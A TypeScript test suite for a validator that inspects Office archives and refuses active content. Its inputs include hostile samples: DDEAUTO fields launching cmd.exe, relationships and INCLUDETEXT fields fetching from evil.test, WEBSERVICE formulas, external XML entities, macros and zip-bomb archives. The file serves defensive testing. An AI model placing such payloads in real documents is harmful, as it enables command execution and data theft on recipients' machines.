import { unzipSync } from 'fflate'
import { office } from '../../../../tests/harness/documents'
import { deflatedZip, storeZip } from '../../../../tests/harness/zip-file'
import { readOffice } from './check-office'

const flaw = async (bytes: Buffer): Promise<string> => {
  const found = (await readOffice(bytes))?.flaw
  return typeof found === 'object' ? found.active : (found ?? 'ok')
}
const parts = (given: Record<string, string>): Promise<string> => flaw(office(given))
const relations = (attributes: string): Promise<string> =>
  parts({
    'word/_rels/document.xml.rels': `<?xml version="1.0"?><Relationships><Relationship Id="r1" ${attributes}/></Relationships>`,
  })
const relation = (type: string, target: string, mode = ''): Promise<string> =>
  relations(
    `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" ${mode}`,
  )
const word = (body: string): Promise<string> =>
  parts({ 'word/document.xml': `<w:document xmlns:w="w"><w:body>${body}</w:body></w:document>` })
const code = (text: string): string => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`
const mark = (type: string): string => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`
const field = (...codes: string[]): Promise<string> =>
  word(mark('begin') + codes.map(code).join('') + mark('separate') + mark('end'))
const EXTERNAL = 'TargetMode="External"'

test('passive parts are accepted', async () => {
  expect(
    await parts({
      'word/media/image1.png': 'x',
      'xl/printerSettings/printerSettings1.bin': 'x',
      'docProps/thumbnail.jpeg': 'x',
      'word/fonts/font1.odttf': 'x',
      'customXml/item1.xml': '<a/>',
      'xl/worksheets/sheet1.xml':
        '<worksheet><c><f>SUM(A1:A2)</f><v>1</v></c><c t="inlineStr"><is><t>WEBSERVICE(说明)</t></is></c></worksheet>',
    }),
  ).toBe('ok')
  for (const type of ['styles', 'image', 'theme', 'ctrlProp', 'printerSettings', 'hyperlink'])
    expect([type, await relation(type, 'x.xml')]).toEqual([type, 'ok'])
  for (const target of ['https://www.gov.cn/?a=1&amp;b=2', 'mailto:a@b.cn', 'www.gov.cn', '附件1.docx', '#表1'])
    expect([target, await relation('hyperlink', target, EXTERNAL)]).toEqual([target, 'ok'])
  for (const text of [
    ' PAGE ',
    'TOC \\o "1-3" \\h',
    'HYPERLINK "https://a.cn"',
    '={PAGE}-1',
    'INCLUDEPICTURE "C:\\\\Temp\\\\a.jpg" \\* MERGEFORMATINET',
    'INCLUDEPICTURE \\d "file:///C:/Temp/a.jpg"',
    'MACROBUTTON NoMacro [点击输入]',
  ])
    expect([text, await field(text.replace(/"/g, '&quot;'))]).toEqual([text, 'ok'])
  expect(
    await word(
      `${mark('begin')}${code('IF ')}${mark('begin')}${code('PAGE')}${mark('end')}${code(' = 1 "a"')}${mark('end')}`,
    ),
  ).toBe('ok')
  const page = mark('begin') + code('PAGE') + mark('end')
  // The operator or the word IF comes first, so that the result of the nested field is no name.
  for (const before of ['=', 'IF', 'if'])
    expect([before, await word(mark('begin') + code(before) + page + mark('end'))]).toEqual([before, 'ok'])
  for (const before of ['', 'D', 'IFF', '"'])
    expect([before, await word(mark('begin') + code(before) + page + mark('end'))]).toEqual([before, 'field'])
})

test('content types of more than a megabyte are of no office file', async () => {
  const types = (size: number): Buffer => {
    const main = 'wordprocessingml.document.main+xml"/><!--'
    return office({}, main + 'x'.repeat(size))
  }
  const begin = unzipSync(types(0))['[Content_Types].xml']?.length ?? 0
  expect((await readOffice(types(1024 * 1024 - begin)))?.kind).toBe('docx')
  expect(await readOffice(types(1024 * 1024 - begin + 1))).toBeUndefined()
})

test('what is fetched or run on opening is refused, in any spelling', async () => {
  for (const type of ['attachedTemplate', 'image', 'oleObject', 'frame', 'aFChunk', 'externalLinkPath'])
    expect([type, await relation(type, 'http://evil.test/x', EXTERNAL)]).toEqual([type, 'external'])
  expect(await relations(`Type='x/image' Target='http://evil.test/x' TargetMode = 'External'`)).toBe('external')
  expect(await relations('Type="x/image" Target="http://evil.test/x" TargetMode="&#69;xternal"')).toBe('external')
  expect(await relations('Type="x/image" Target="\\\\evil.test\\x"')).toBe('external')
  expect(await relation('image', 'file:///c:/x')).toBe('external')
  expect(await relation('hyperlink', '\\\\evil.test\\share', EXTERNAL)).toBe('\\\\evil.test\\share')
  expect(await relation('hyperlink', 'file://evil.test/x', EXTERNAL)).toBe('file://evil.test/x')
  for (const type of [
    'oleObject',
    'control',
    'externalLink',
    'vbaProject',
    'aFChunk',
    'connections',
    'customUI',
    'video',
  ])
    expect([type, await relation(type, 'x.xml')]).toEqual([type, type])
  expect(
    await parts({
      'x/_rels/y.xml.RELS': '<Relationship Type="x/image" Target="http://evil.test" TargetMode="External"/>',
    }),
  ).toBe('external')
})

test('fields that run a program or fetch a file are refused, also split into runs or written by another field', async () => {
  for (const text of [
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
    'dde x',
    'LINK Excel.Sheet',
    'INCLUDETEXT "http://evil"',
    'RD x',
    'IMPORT x',
    'DATABASE x',
  ])
    expect([text, await field(text.replace(/"/g, '&quot;'))]).toEqual([text, text.split(' ')[0]?.toUpperCase()])
  expect(await field(' D', 'DE', 'AUTO cmd')).toBe('DDEAUTO')
  expect(await field('&#68;DE x')).toBe('DDE')
  expect(await field('<![CDATA[DDE x]]>')).toBe('DDE')
  expect(await field('INCLUDEPICTURE &quot;http://evil.test/a.png&quot;')).toBe('INCLUDEPICTURE')
  expect(await field('INCLUDEPICTURE \\d &quot;\\\\\\\\evil\\\\a.png&quot;')).toBe('INCLUDEPICTURE')
  expect(await word('<w:fldSimple w:instr="DDEAUTO cmd"/>')).toBe('DDEAUTO')
  expect(await word('<w:fldSimple w:id="1" x:id="2" w:instr=\'DDE cmd\'/>')).toBe('DDE')
  expect(await word(mark('begin') + code('DDE x'))).toBe('DDE')
  expect(
    await word(`${mark('begin')}${mark('begin')}${code('QUOTE 68 68 69')}${mark('end')}${code(' cmd')}${mark('end')}`),
  ).toBe('field')
  // Parts may be in any folder.
  expect(await parts({ 'odd/place.xml': `<x>${mark('begin')}${code('DDE x')}${mark('end')}</x>` })).toBe('DDE')
  expect(await word(mark('begin').repeat(60) + code('PAGE'))).toBe('too-complex')
})

test('formulas that fetch, document types and other encodings are refused', async () => {
  for (const formula of [
    '_xlfn.WEBSERVICE("http://evil")',
    '_xlfn.IMAGE("http://evil")',
    'RTD("x")',
    'web&#115;ervice(1)',
  ])
    expect(await parts({ 'xl/worksheets/sheet1.xml': `<worksheet><c><f>${formula}</f></c></worksheet>` })).toMatch(
      /WEBSERVICE|IMAGE|RTD/i,
    )
  expect(await parts({ 'xl/workbook.xml': '<workbook><definedName>RTD("x")</definedName></workbook>' })).toBe('RTD')
  expect(await parts({ 'word/x.xml': '<!DOCTYPE a SYSTEM "http://evil.test"><a/>' })).toBe('DOCTYPE')
  expect(await parts({ 'word/x.xml': '<a/><!ENTITY b SYSTEM "http://evil.test">' })).toBe('DOCTYPE')
  expect(await parts({ 'docProps/core.xml': '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' })).toBe(
    'DOCTYPE',
  )
  const wide = Buffer.from('\ufeff<!DOCTYPE a><a/>', 'utf16le').toString('latin1')
  const utf16 = storeZip([
    ...[
      [
        '[Content_Types].xml',
        '<Types><Override PartName="/a.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
      ],
    ].map(([name, text]) => ({ name: name as string, data: Buffer.from(text as string) })),
    { name: 'word/x.xml', data: Buffer.from(wide, 'latin1') },
  ])
  expect(await flaw(utf16)).toBe('DOCTYPE')
  expect(await parts({ 'word/x.xml': '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-' })).toBe('broken')
})

test('other parts of an office file are refused', async () => {
  for (const name of [
    'word/a.exe',
    'word/a.html',
    'word/a.mht',
    'word/a.svg',
    'word/b.bin',
    'inner.zip',
    'inner.docx',
    'noending',
  ])
    expect([name, await parts({ [name]: 'x' })]).toEqual([name, name])
  for (const [name, active] of [
    ['word/VBAPROJECT.bin', 'macro'],
    ['xl/externalLinks/externalLink1.xml', 'external'],
    ['xl/connections.xml', 'external'],
    ['customUI/customUI.xml', 'external'],
    ['word/embeddings/a.xlsx', 'OLE'],
  ])
    expect([name, await parts({ [name as string]: '<x/>' })]).toEqual([name, active])
  const typed = (type: string): Promise<string> =>
    flaw(
      office(
        { 'x.xml': '<x/>' },
        `wordprocessingml.document.main+xml"/><Override PartName="/x.xml" ContentType="${type}`,
      ),
    )
  expect(await typed('application/vnd.openxmlformats-officedocument.theme+xml')).toBe('ok')
  for (const type of [
    'application/vnd.ms-office.activeX+xml',
    'application/x-msdownload',
    'text/html',
    'application/vnd.ms-word.attachedToolbars.macroEnabled',
    'application/vnd.openxmlformats-officedocument.oleObject',
  ])
    expect([type, await typed(type)]).not.toEqual([type, 'ok'])
})

describe('inconsistent archives', () => {
  const entry = Buffer.from('PK\x01\x02', 'latin1')
  const changed = async (change: (bytes: Buffer, directory: number[]) => void): Promise<string> => {
    const bytes = office({ 'word/a.xml': '<a/>', 'word/b.xml': '<b/>' })
    const places: number[] = []
    for (let at = bytes.indexOf(entry); at >= 0; at = bytes.indexOf(entry, at + 1)) places.push(at)
    change(bytes, places)
    return await flaw(bytes)
  }

  test('entries that overlap, or differ from the directory', async () => {
    expect(await changed(() => undefined)).toBe('ok')
    // Two directory entries for one file.
    expect(
      await changed((bytes, at) =>
        bytes.copy(bytes, (at[3] as number) + 42, (at[2] as number) + 42, (at[2] as number) + 46),
      ),
    ).toBe('broken')
    expect(await changed((bytes) => bytes.write('c', bytes.indexOf('word/b.xml') + 5))).toBe('broken')
    expect(await changed((bytes, at) => bytes.writeUInt16LE(8, (at[3] as number) + 10))).toBe('broken')
    expect(await changed((bytes, at) => bytes.writeUInt32LE(3, (at[3] as number) + 20))).toBe('broken')
    expect(await changed((bytes, at) => bytes.writeUInt32LE(0xffff, (at[3] as number) + 42))).toBe('broken')
    expect(await flaw(office({ 'word/a.xml': '<a/>', 'WORD/A.XML': '<b/>' }))).toBe('broken')
    const bytes = office()
    const ahead = Buffer.concat([bytes.subarray(0, 4), Buffer.alloc(26), bytes])
    expect(await flaw(ahead)).toBe('broken')
  })

  test('ten thousand entries, and a ratio of a thousand', async () => {
    const many = Object.fromEntries(Array.from({ length: 10_001 }, (_, n) => [`word/${n}.xml`, '<a/>']))
    expect(await parts(many)).toBe('broken')
    const packed = (text: string | Buffer): Buffer => deflatedZip({ ...unzipSync(office()), 'word/a.xml': text })
    expect(await flaw(packed(Buffer.alloc(11 * 1024 * 1024, ' ')))).toBe('too-large')
    expect(await flaw(packed(`<a>${'x'.repeat(1000)}</a>`))).toBe('ok')
  })
})

test('twenty thousand unclosed tags, and similar cases, are refused at once', async () => {
  const endless = [
    '<Relationship xxxx'.repeat(200_000),
    `<Relationship ${'x="'.repeat(200_000)}`,
    `<Relationship ${"x='y' ".repeat(200_000)}`,
    '<!--'.repeat(200_000),
    '<![CDATA['.repeat(200_000),
    `<Relationship ${' '.repeat(2_000_000)}`,
    '&'.repeat(1_000_000) + '<',
  ]
  for (const xml of endless) expect(await parts({ 'word/_rels/document.xml.rels': xml })).toBe('broken')
})
